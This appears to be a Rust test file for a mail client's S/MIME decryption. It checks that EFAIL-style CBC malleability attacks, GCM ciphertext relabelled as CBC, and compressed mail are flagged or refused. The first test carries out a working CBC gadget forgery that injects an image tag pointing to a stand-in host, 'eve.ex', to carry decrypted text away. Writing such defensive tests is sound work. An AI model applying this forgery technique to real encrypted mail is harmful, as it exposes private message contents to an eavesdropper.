//! Encrypted texts that somebody on the way changed without knowing the key, to have them carried away (EFAIL).

use crate::people::*;
use data_encoding::BASE64;
use mail::html::{Pictures, clean};
use mail::smime::Language;
use pki::cms::ContentCipher;

const BLOCK: usize = 16;

/// The identifier of AES-256-CBC.
const AES_256_CBC: &[u8] = b"\x06\x09\x60\x86\x48\x01\x65\x03\x04\x01\x2a";

/// Every HTML part begins so, and who knows one block of a text can have any other in its place.
const KNOWN: &[u8; BLOCK] = b"Content-Type: te";

#[test]
fn a_picture_around_a_text_in_cbc_does_not_carry_it_away() {
    let text = "The secret of the company. ".repeat(12);
    let html =
        format!("From: alice@example.com\r\nContent-Type: text/html\r\n\r\n<p>{text}</p>\r\n");
    let sealed = seal(&html, ContentCipher::Aes256Cbc);
    let mut der = decoded(&sealed);
    let length = (entity(&html).len() / BLOCK + 1) * BLOCK;
    let start = der.len() - length;
    // In front of the text: the context tag with two octets of length, and the vector.
    let vector = start - 4 - BLOCK;
    assert_eq!(der[vector - 2..vector], [0x04, BLOCK as u8]);
    let blocks: Vec<Vec<u8>> = der[start..].chunks(BLOCK).map(<[u8]>::to_vec).collect();
    let chosen = |wanted: &[u8; BLOCK]| -> Vec<u8> {
        (0..BLOCK).map(|at| der[vector + at] ^ KNOWN[at] ^ wanted[at]).collect()
    };
    let first = &blocks[0];
    let mut changed = vec![first.clone(), blocks[1].clone()];
    for wanted in [b"<img         a='", b"' src='//eve.ex/"] {
        changed.extend([chosen(wanted), first.clone()]);
    }
    let room = blocks.len() - changed.len() - 2;
    changed.extend_from_slice(&blocks[1..=room]);
    changed.extend_from_slice(&blocks[blocks.len() - 2..]);
    der.splice(start.., changed.concat());
    let opened = check(mail_of(&der, "enveloped-data"), &["malleable"]);

    let content = opened.content.as_ref().unwrap();
    let content = String::from_utf8_lossy(content);
    let body = content.split_once("\r\n\r\n").unwrap().1;
    // The attack works: a browser would ask Eve for the text.
    assert!(body.contains("' src='//eve.ex/"), "{body}");
    let carried = body.split_once("//eve.ex/").unwrap().1;
    assert!(carried.contains("The secret of the company."), "{body}");
    assert!(!opened.state.allows_remote_content());
    assert!(!opened.state.is_signed());
    assert_eq!(
        opened.state.problems[0].words(Language::English),
        "Encrypted with AES-256-CBC: others could have changed parts of it on its way."
    );
    let cleaned = clean(body, &Pictures::default());
    assert!(!cleaned.html.contains("eve.ex"), "{}", cleaned.html);
}

/// A text in GCM is the exclusive or with what the cipher makes of a counter. In CBC the same key makes something else of it,
/// in which who tries often enough finds what the cipher makes of blocks: nothing of that may count as protected.
#[test]
fn a_text_in_gcm_that_is_called_cbc_is_not_taken_for_what_it_was() {
    let der = decoded(&seal(MAIL, ContentCipher::Aes256Gcm));
    let [_, wrapped] = values(values(&der)[0].1)[..] else { panic!("a content") };
    let data = values(values(wrapped.1)[0].1);
    let (version, recipients) = (value(0x02, b"\x02"), value(data[1].0, data[1].1));
    let [kind, _, text] = values(data[2].1)[..] else { panic!("an encrypted content") };
    assert!(text.1.len() >= 2 * BLOCK);
    let mut opened_as_cbc = 0;
    for last in 0..=255 {
        let vector = [&[0; BLOCK - 1][..], &[last]].concat();
        let cipher = value(0x30, &[AES_256_CBC, &value(0x04, &vector)].concat());
        let content = [value(kind.0, kind.1), cipher, value(0x80, &text.1[..BLOCK])].concat();
        let enveloped = [&version[..], &recipients, &value(0x30, &content)].concat();
        let message = [
            value(0x06, b"\x2a\x86\x48\x86\xf7\x0d\x01\x07\x03"),
            value(0xa0, &value(0x30, &enveloped)),
        ];
        let opened = open(mail_of(&value(0x30, &message.concat()), "enveloped-data"));
        let codes: Vec<_> = opened.state.problems.iter().map(|it| it.code()).collect();
        match opened.content {
            // One padding in 256 is right by chance.
            Some(content) => {
                assert!(!content.starts_with(b"Content") && content.len() < BLOCK);
                assert_eq!(codes, ["malleable"]);
                assert!(!opened.state.allows_remote_content() && !opened.state.is_signed());
                assert_eq!(opened.state.lines(Language::English)[1], "Encrypted with AES-256-CBC.");
                opened_as_cbc += 1;
            }
            None => assert_eq!(codes, ["undecipherable"]),
        }
    }
    assert!((1..=3).contains(&opened_as_cbc), "{opened_as_cbc}");
}

#[test]
fn a_compressed_mail_is_refused_as_what_it_is() {
    let compressed = [
        value(0x02, b"\x00"),
        value(0x30, &value(0x06, b"\x2a\x86\x48\x86\xf7\x0d\x01\x09\x10\x03\x08")),
        value(
            0x30,
            &[
                value(0x06, b"\x2a\x86\x48\x86\xf7\x0d\x01\x07\x01"),
                value(0xa0, &value(0x04, b"\x78\x9c\x03\x00\x00\x00\x00\x01")),
            ]
            .concat(),
        ),
    ];
    let message = [
        value(0x06, b"\x2a\x86\x48\x86\xf7\x0d\x01\x09\x10\x01\x09"),
        value(0xa0, &value(0x30, &compressed.concat())),
    ];
    let message = value(0x30, &message.concat());
    let mail = mail_of(&message, "compressed-data");
    let inside = seal(&mail, ContentCipher::Aes256Gcm);
    for mail in [&mail, &inside] {
        let opened = check(mail, &["compressed"]);
        assert!(opened.content.is_none() && !opened.state.is_sound());
        assert_eq!(
            opened.state.problems[0].words(Language::English),
            "The mail is compressed, which cannot be read here."
        );
    }
}

fn decoded(mail: &str) -> Vec<u8> {
    let body = mail.split_once("\r\n\r\n").unwrap().1;

    BASE64.decode(body.replace("\r\n", "").as_bytes()).unwrap()
}

fn mail_of(message: &[u8], kind: &str) -> String {
    format!(
        "From: alice@example.com\r\nContent-Type: application/pkcs7-mime; smime-type={kind}\r\n\
         Content-Transfer-Encoding: base64\r\n\r\n{}\r\n",
        BASE64.encode(message)
    )
}

/// The values in a row, each as its tag and its content.
fn values(mut der: &[u8]) -> Vec<(u8, &[u8])> {
    let mut found = Vec::new();
    while let [tag, length, rest @ ..] = der {
        let more = if *length < 0x80 { 0 } else { usize::from(length & 0x7f) };
        let long = rest[..more].iter().fold(0, |sum, octet| sum * 256 + usize::from(*octet));
        let length = if more == 0 { usize::from(*length) } else { long };
        found.push((*tag, &rest[more..more + length]));
        der = &rest[more + length..];
    }

    found
}
